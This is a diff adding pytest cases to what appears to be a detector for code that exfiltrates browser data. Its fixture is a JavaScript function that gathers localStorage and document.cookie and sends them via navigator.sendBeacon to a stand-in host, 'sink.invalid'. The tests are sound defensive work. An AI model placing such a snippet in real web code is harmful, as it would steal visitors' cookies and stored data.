@@ -32,3 +32,29 @@ def test_it_is_told_with_the_address() -> None:
 )
 def test_less_is_not(source: str) -> None:
     assert [] == sent(source)
+
+
+PAGE = (
+    "export function use() {\n  const kept = {};\n  for (let i = 0; i < localStorage.length; i++) kept[i] = localStorage.key(i);\n"
+    "  navigator.sendBeacon('https://sink.invalid/p', JSON.stringify({kept, cookies: document.cookie}));\n}\n"
+)
+
+
+@pytest.mark.parametrize(
+    "source", [PAGE, PAGE.replace("localStorage.key(i)", "JSON.stringify(localStorage)")]
+)
+def test_all_cookies_and_all_that_a_page_keeps_are(source: str) -> None:
+    assert ["https://sink.invalid/p"] == sent(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        PAGE.replace("localStorage.key(i)", "localStorage.getItem('id')"),
+        PAGE.replace("document.cookie", "document.cookie.length"),
+        PAGE.replace("'https://sink.invalid/p'", "options.url"),
+    ],
+    ids=["one key", "not the cookies", "an address of its user"],
+)
+def test_less_of_a_page_is_not(source: str) -> None:
+    assert [] == sent(source)
